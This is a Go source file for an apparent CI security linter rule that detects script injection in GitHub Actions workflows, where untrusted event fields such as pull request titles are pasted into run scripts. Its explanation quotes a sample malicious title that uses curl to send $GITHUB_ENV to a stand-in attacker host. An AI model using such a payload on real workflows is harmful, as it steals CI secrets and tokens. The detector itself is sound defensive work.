package pipeline

import (
	"fmt"
	"regexp"
	"strings"

	"github.com/rhysd/actionlint"

	"github.com/bulwark-dev/bulwark/internal/rule"
)

// scriptInjection checks GitHub workflows for expressions that paste
// attacker-controlled event fields into code: a ${{ }} expression in a run
// script, or in the script input of actions/github-script, that reads an
// untrusted field is a hit at the expression. Untrusted fields are
// actionlint's list (issue, pull request, comment, review and discussion
// titles and bodies, head branch names and labels, commit messages and
// authors, page names) plus the workflow_run and merge_group ones (head
// branch, head commit message and author, display title). Allowed: the same
// values passed through env: and used as "$VAR", and fields people cannot
// choose (numbers, SHAs, repository names) or that are only compared
// (contains, startsWith, endsWith).
var scriptInjection = &ciRule{
	meta: rule.Meta{
		ID: "BW-CI-005", Name: "ci-script-injection",
		Title:    "Workflow pastes attacker-controlled text into a script",
		Severity: rule.High, Category: rule.Pipeline,
		Why: "GitHub replaces ${{ }} expressions in run: scripts before the shell parses them, so a value is pasted into the script as code. Pull request titles, branch names, issue and comment bodies and commit messages are written by whoever opens them: a title such as `a\"; curl -d @$GITHUB_ENV evil.example; \"` runs on the runner with the job's secrets and token. " +
			"The same holds for actions/github-script, whose script is JavaScript.",
		Remediation: "Pass the value through an environment variable and quote it in the shell: env: TITLE: ${{ github.event.pull_request.title }} and then \"$TITLE\" in the script (process.env.TITLE in github-script). Never build a command from it without validating it first.",
		References:  []string{refGHScriptInj, "https://securitylab.github.com/resources/github-actions-untrusted-input/", "https://docs.github.com/en/actions/reference/security/secure-use#good-practices-for-mitigating-script-injection-attacks"},
	},
	check: func(f *ciFile) []rule.Hit {
		if f.dialect != githubActions {
			return nil
		}
		var hits []rule.Hit
		report := func(j *ciJob, in, text string, place func(off int, tok string) (int, int)) {
			for _, e := range untrustedExprs(text) {
				l, c := place(e.offset, "${{")
				hits = append(hits, hitAt(l, c, fmt.Sprintf("%s: %s expands %s, which anyone opening an issue or pull request controls", j.where(), in, e.input), e.source, j.id+"|"+in+"|"+e.input))
			}
		}
		for _, j := range f.jobs {
			for _, s := range j.scripts {
				s := s
				report(j, "run script", s.text, func(off int, tok string) (int, int) { return s.pos(off, tok) })
			}
			for _, in := range j.inputs {
				if actionName(in.uses) == "actions/github-script" && strings.EqualFold(in.name, "script") {
					in := in
					report(j, "github-script", in.value, func(off int, tok string) (int, int) { return in.pos(f.lines, off, tok) })
				}
			}
		}
		return hits
	},
}

// untrusted is one expression reading an untrusted field.
type untrusted struct {
	offset int    // of "${{" in the text
	source string // the expression as written
	input  string // the untrusted field, e.g. github.event.issue.title
}

// untrustedExprs parses each ${{ }} expression of a text and reports those
// that read an untrusted field.
func untrustedExprs(text string) []untrusted {
	var out []untrusted
	for _, m := range expr.FindAllStringIndex(text, -1) {
		src := text[m[0]:m[1]]
		node, err := actionlint.NewExprParser().Parse(actionlint.NewExprLexer(src[3:]))
		if err != nil {
			continue
		}
		checker := actionlint.NewUntrustedInputChecker(untrustedInputs)
		checker.Init()
		actionlint.VisitExprNode(node, func(n, _ actionlint.ExprNode, entering bool) {
			if entering {
				checker.OnVisitNodeEnter(n)
			} else {
				checker.OnVisitNodeLeave(n)
			}
		})
		checker.OnVisitEnd()
		for _, e := range checker.Errs() {
			for _, q := range quoted.FindAllStringSubmatch(e.Message, -1) {
				out = append(out, untrusted{offset: m[0], source: src, input: q[1]})
			}
		}
	}
	return out
}

// quoted finds the field names in the untrusted-input checker's messages.
var quoted = regexp.MustCompile(`"((?:github)\.[^"]+)"`)

// untrustedInputs is actionlint's tree of attacker-controlled fields, with
// the workflow_run and merge_group fields added.
var untrustedInputs = actionlint.UntrustedInputSearchRoots{
	"github": ui("github",
		ui("event",
			ui("issue", ui("title"), ui("body")),
			ui("pull_request", ui("title"), ui("body"),
				ui("head", ui("ref"), ui("label"), ui("repo", ui("default_branch")))),
			ui("comment", ui("body")),
			ui("review", ui("body")),
			ui("review_comment", ui("body")),
			ui("pages", ui("*", ui("page_name"))),
			ui("commits", ui("*", ui("message"), ui("author", ui("email"), ui("name")))),
			ui("head_commit", ui("message"), ui("author", ui("email"), ui("name"))),
			ui("discussion", ui("title"), ui("body")),
			ui("workflow_run", ui("head_branch"), ui("display_title"),
				ui("head_commit", ui("message"), ui("author", ui("email"), ui("name"))),
				ui("pull_requests", ui("*", ui("head", ui("ref"))))),
			ui("merge_group", ui("head_commit", ui("message"), ui("author", ui("email"), ui("name")))),
		),
		ui("head_ref"),
	),
}

func ui(name string, children ...*actionlint.UntrustedInputMap) *actionlint.UntrustedInputMap {
	return actionlint.NewUntrustedInputMap(name, children...)
}
